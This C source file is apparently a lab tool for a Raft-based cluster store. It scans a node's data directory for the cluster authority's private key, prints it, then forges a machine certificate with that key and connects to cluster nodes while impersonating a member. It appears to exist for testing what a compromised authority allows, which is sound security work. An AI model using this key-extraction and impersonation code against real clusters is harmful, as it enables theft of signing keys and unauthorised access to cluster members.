/* SPDX-License-Identifier: Apache-2.0 */
/* Somebody who has got hold of a cluster's authority, for the lab:
 *
 *   forger steal DATA_DIR >KEY
 *       out of a voter's data: the authority's private key, as PEM
 *   forger call AUTHORITY KEY raft|session MACHINE-ID SERVER-ID ADDRESS...
 *       certifies itself as that machine, and dials each; proves that it "keeps the data", and stays
 *
 * Prints a line for each connection that opens or ends, with the reason. Ends when all have ended. */
#include <config.h>

#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <uv.h>

#include "base/alloc.h"
#include "base/cleanup.h"
#include "base/hex.h"
#include "base/str.h"
#include "base/times.h"
#include "pki/pki.h"
#include "raftstore/port.h"
#include "raftstore/registry_level.h"
#include "raftstore/tls_credentials.h"

#define HOUR_MS 3600000u

static void die(const char *what, const struct err *err)
{
    fprintf(stderr, "%s%s%s\n", what, err != NULL ? ": " : "", err != NULL ? err->text : "");
    exit(EXIT_FAILURE);
}

static struct pki_blob read_file(const char *path)
{
    struct pki_blob blob = {.data = xmalloc(PKI_PEM_MAX)};
    _cleanup_(closep) int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t size = fd >= 0 ? read(fd, blob.data, PKI_PEM_MAX) : -1;

    if (size < 0)
        die(path, NULL);
    blob.size = (size_t)size;
    return blob;
}

/* The first certificate of the file. */
static struct pki_blob read_authority(const char *path)
{
    struct pki_blob pem = read_file(path), certificates[PKI_ROOTS_MAX];
    struct err err = {0};
    size_t count;

    if (pki_from_pem(pem.data, pem.size, certificates, PKI_ROOTS_MAX, &count, &err) < 0)
        die(path, &err);
    pki_blob_done(&pem);
    for (size_t i = 1; i < count; i++)
        pki_blob_done(&certificates[i]);
    return certificates[0];
}

/* ---- steal ---- */

static struct pki_blob wanted; /* The authority whose key is looked for. */

static void try_key(const uint8_t *bytes, size_t size)
{
    struct pki_key *key = NULL;
    struct pki_blob pem = {0};

    if (pki_key_decode(bytes, size, &key, NULL) < 0)
        return;
    if (pki_key_fits(key, wanted.data, wanted.size, NULL) >= 0 && pki_key_to_pem(key, &pem, NULL) >= 0) {
        printf("%s", (const char *)pem.data);
        exit(EXIT_SUCCESS);
    }
    pki_key_free(key);
}

/* PKCS#8 of a key on a curve: a sequence of so many bytes, version 0, "id-ecPublicKey". */
static int look_into(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
    static const uint8_t begins[] = {0x02, 0x01, 0x00, 0x30, 0x13, 0x06, 0x07,
                                     0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01};
    _cleanup_(closep) int fd = type == FTW_F && st->st_size > 0 ? open(path, O_RDONLY | O_CLOEXEC) : -1;
    size_t size = (size_t)st->st_size;
    const uint8_t *bytes, *at;

    if (fd < 0)
        return 0;
    bytes = mmap(NULL, size, PROT_READ, MAP_PRIVATE, fd, 0);
    if (bytes == MAP_FAILED)
        return 0;
    for (at = bytes; (at = memmem(at, size - (size_t)(at - bytes), begins, sizeof begins)) != NULL; at++) {
        const uint8_t *key = at - 3; /* 0x30 0x81, and the length. */
        size_t key_size = at - bytes >= 3 ? 3 + (size_t)at[-1] : 0;

        if (key_size > 0 && key[0] == 0x30 && key[1] == 0x81 && key_size <= size - (size_t)(key - bytes))
            try_key(key, key_size);
    }
    munmap((void *)bytes, size);
    return 0;
}

static void steal(const char *data_dir)
{
    char *path = xasprintf("%s/tls/authority.crt", data_dir);

    wanted = read_authority(path);
    free(path); /* What comes now ends the process where the key is. */
    nftw(data_dir, look_into, 16, FTW_PHYS);
    die("the authority's key is not there", NULL);
}

/* ---- call ---- */

static struct pki_blob authority;
static struct pki_key *authority_key;
static size_t calls_open;
static struct port *port;

static void say(const char *what, const char *address, const char *text)
{
    printf("%s %s %s\n", what, address, text);
    fflush(stdout);
}

static void on_open(struct conn *conn, const Fleet__Welcome *welcome, void *data)
{
    say("open", data, "");
}

static void on_message(struct conn *conn, const uint8_t *bytes, size_t size, void *data)
{
}

static void on_close(struct conn *conn, const char *reason, const Fleet__Welcome *refusal, void *data)
{
    say("ended", data, reason);
    if (--calls_open == 0)
        port_close(port, NULL, NULL);
}

static bool prove(const void *text, size_t size, struct port_proof *ret, void *data)
{
    ret->authorities[0] = (ProtobufCBinaryData){.len = authority.size, .data = authority.data};
    ret->authority_count = 1;
    return pki_prove(authority_key, text, size, &ret->signature, NULL) >= 0;
}

static int on_accept(struct conn *conn, const Fleet__Hello *hello, const struct conn_callbacks **ret,
                     void **ret_data, char *leader_address, struct err *err, void *data)
{
    return err_set(err, -EAGAIN, "nobody is to call here");
}

/* By the authority's key, and one that was made just now. */
static struct tls_credentials *certify(const struct pki_name *cluster, const char *machine_id)
{
    struct pki_subject subject = {.name = {.kind = PKI_MACHINE}, .not_after_ms = wall_ms() + HOUR_MS};
    struct pki_blob request = {0}, certificate = {0};
    struct tls_credentials *credentials = NULL;
    struct pki_key *key = NULL;
    struct err err = {0};

    memcpy(subject.name.cluster_id, cluster->cluster_id, PKI_CLUSTER_ID_SIZE);
    snprintf(subject.name.id, sizeof subject.name.id, "%s", machine_id);
    if (pki_key_new(&key, &err) < 0 || pki_request_new(key, &request, &err) < 0 ||
        pki_sign(authority.data, authority.size, authority_key, request.data, request.size, &subject,
                 &certificate, NULL, &err) < 0 ||
        tls_credentials_new(key, &certificate, 1, &authority, 1, &credentials, &err) < 0)
        die("cannot forge a certificate", &err);
    pki_key_free(key);
    pki_blob_done(&request);
    pki_blob_done(&certificate);
    return credentials;
}

static void call(char *const *arguments, size_t count)
{
    static const struct conn_callbacks callbacks = {
        .on_open = on_open, .on_message = on_message, .on_close = on_close};
    static const struct port_callbacks port_callbacks = {.on_accept = on_accept, .prove = prove};
    struct pki_blob pem = read_file(arguments[1]);
    struct port_identity identity = {.has_cluster = true, .level = FEATURE_LEVEL};
    struct tls_credentials *credentials;
    struct pki_info info;
    struct err err = {0};
    uv_loop_t loop;

    authority = read_authority(arguments[0]);
    if (pki_key_from_pem(pem.data, pem.size, &authority_key, &err) < 0 ||
        pki_read(authority.data, authority.size, &info, &err) < 0)
        die("cannot read the authority", &err);
    memcpy(identity.cluster_id, info.name.cluster_id, sizeof identity.cluster_id);
    snprintf(identity.machine_id, sizeof identity.machine_id, "%s", arguments[3]);
    identity.server_id = strtoull(arguments[4], NULL, 16);
    memset(identity.boot_id, 'f', sizeof identity.boot_id);
    uv_loop_init(&loop);
    port = port_new(&loop, &identity, &port_callbacks, NULL);
    credentials = certify(&info.name, arguments[3]);
    port_set_credentials(port, credentials);
    tls_credentials_unref(credentials);
    for (size_t i = 5; i < count; i++) {
        calls_open++;
        port_dial(port, arguments[i],
                  streq(arguments[2], "raft") ? FLEET__PURPOSE__PURPOSE_RAFT
                                              : FLEET__PURPOSE__PURPOSE_SESSION,
                  0, &callbacks, arguments[i]);
    }
    uv_run(&loop, UV_RUN_DEFAULT);
    uv_loop_close(&loop);
    pki_key_free(authority_key);
    pki_blob_done(&authority);
    pki_blob_done(&pem);
}

int main(int argc, char **argv)
{
    if (argc == 3 && streq(argv[1], "steal"))
        steal(argv[2]);
    else if (argc > 7 && streq(argv[1], "call"))
        call(argv + 2, (size_t)argc - 2);
    else
        die("usage: forger steal DATA_DIR | call AUTHORITY KEY raft|session MACHINE-ID SERVER-ID ADDRESS...",
            NULL);
    return EXIT_SUCCESS;
}
